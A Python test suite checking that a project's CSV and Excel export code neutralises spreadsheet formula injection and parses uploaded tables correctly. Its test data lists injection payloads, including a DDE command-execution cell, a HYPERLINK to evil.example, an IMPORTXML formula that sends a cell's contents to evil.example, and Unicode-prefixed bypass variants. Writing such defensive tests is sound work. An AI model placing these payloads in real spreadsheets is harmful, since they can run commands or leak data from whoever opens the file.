"""Files for spreadsheet programs: no cell is a formula, and every text comes back whole."""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from matching.services.exchange import spreadsheets
from matching.services.exchange.cells import is_risky, neutral, plain
from matching.services.exchange.reading import TABLES
from matching.services.exchange.spreadsheets import read_csv, write_csv, write_xlsx
from matching.services.exchange.tables import find_pairs, split_csv
from matching.services.exchange.workbooks import read_workbook
from matching.web.forms.fields import clean_text
from tests.exchange.bombs import parts_of

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1",
    "''",
    "=cmd|'/C calc'!A1",
    '=HYPERLINK("http://evil.example","x")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '"=1',
    '",=1',
    "x\r\n=1",
)
HARMLESS = ("", "Ports", "1 = 1", "a@example.org", "R-7KQ4-M2XD", "‘quoted’", "طلب", "x'", "٢", "{=1}")
COUNTS = settings(max_examples=300, deadline=None)
STARTS = tuple("=+-@＝＋－＠\t\r\n'")
ANY = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
RISKY = st.builds(str.__add__, st.sampled_from(["=", "+", "-", "@", "＝", "'", "\t", " =", "\ufeff@"]), ANY)
KEPT = ANY.map(lambda text: clean_text(text)[0]).filter(lambda text: "\ufffe" not in text and "\uffff" not in text)


def cells_of(content: bytes) -> list[str]:
    """Return what a spreadsheet program finds in each cell of a CSV file."""
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def runs(cell: str) -> bool:
    """Say whether some program might run a cell: by hand here, and more suspicious than our own rule."""
    shown = "".join(sign for sign in cell if unicodedata.category(sign)[0] not in "CZ")
    return cell[:1] in ("\t", "\r", "\n") or shown[:1] in tuple("=+-@＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text_in_a_csv_file_and_comes_back_whole(text: str) -> None:
    content = write_csv([["before", text, "after"]])
    assert [cell for cell in cells_of(content) if runs(cell)] == []
    assert read_csv(content, ",") == [["before", text, "after"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_an_ordinary_text_stands_as_it_is(text: str) -> None:
    assert (is_risky(text), neutral(text)) == (False, text)


@COUNTS
@given(st.lists(st.lists(ANY | RISKY, min_size=2, max_size=4), min_size=1, max_size=4))
@example([["'", "''"], ["'=", "\r"]])
def test_any_table_comes_back_whole_from_csv(table: list[list[str]]) -> None:
    content = write_csv(table)
    assert read_csv(content, ",") == table
    assert not any(map(runs, cells_of(content)))


@settings(max_examples=60, deadline=None)
@given(st.lists(KEPT | RISKY.map(lambda text: clean_text(text)[0]), min_size=1, max_size=6))
@example(["_x0041_", "_x005F_", "https://a.example", "12", "1e5", "TRUE", "#REF!", "{=1}", "=1", "  lead"])
def test_any_text_that_we_keep_comes_back_whole_from_a_workbook(texts: list[str]) -> None:
    content = write_xlsx([["x", *texts, "x"]])
    assert read_workbook(content) == [["x", *texts, "x"]]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(text: str) -> None:
    parts = parts_of(write_xlsx([["before", text, "after"]]))
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    assert re.findall(r"<(?:f|hyperlink)\b", sheet) == []
    assert len(re.findall(r'<c [^>]*t="s"', sheet)) == 3
    assert 'quotePrefix="1"' in parts["xl/styles.xml"].decode()
    assert not any("externalLink" in name or "vba" in name for name in parts)


def test_a_writer_that_takes_texts_for_formulas_is_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "_write", lambda sheet, place, cell, **_formats: sheet.write(*place, cell))
    monkeypatch.setitem(spreadsheets.PLAIN_WORKBOOK, "strings_to_formulas", True)
    assert "<f>" in parts_of(write_xlsx([["=1+1"]]))["xl/worksheets/sheet1.xml"].decode()


def test_a_writer_without_the_mark_is_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "neutral", str)
    assert any(map(runs, cells_of(write_csv([["=1+1"]]))))


def test_one_apostrophe_is_taken_away_and_no_more() -> None:
    assert (plain("'=1"), plain("''x"), plain("x'")) == ("=1", "'x", "x'")


NAMES = "id,language,title,state,sectors"


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_file_of_another_country_s_program_is_read(separator: str) -> None:
    row = ["1", "en", "Ports; and quays", "KEN", "energy; water"]
    quoted = separator.join(f'"{cell}"' for cell in row)
    text = f"\ufeffFor coordinators only\r\n{NAMES.replace(',', separator)}\r\n{quoted}\r\n\r\n"
    ((found,), bad) = TABLES["requests"](find_pairs(split_csv(text.encode())))
    assert (found.line, found.title, found.sectors, bad) == (3, "Ports; and quays", ("energy", "water"), [])


@pytest.mark.parametrize(
    ("text", "line", "field", "code"),
    [
        ("id;name\n1;2", 1, "", "no-names"),
        ("", 1, "", "no-names"),
        (f"{NAMES}\n1,en,Ports,KEN,,more", 2, "", "cell-without-name"),
        (f"{NAMES}\n1,en,Ports,XXX,", 2, "state", "unknown-state"),
        (f"{NAMES}\n1,en,Ports,KEN,no-such", 2, "sectors", "unknown-codes"),
        (f"{NAMES},colour\n1,en,Ports,KEN,,red", 2, "colour", "unknown-field"),
        (f"{NAMES},title\n1,en,Ports,KEN,,Other", 2, "title", "field-twice"),
        (f"{NAMES}\n1,en,,KEN,", 2, "title", "missing"),
    ],
)
def test_what_is_wrong_with_a_table_is_named(text: str, line: int, field: str, code: str) -> None:
    _rows, bad = TABLES["requests"](find_pairs(split_csv(text.encode())))
    assert (line, field, code) in [(one.line, one.field, one.reason.code) for one in bad]
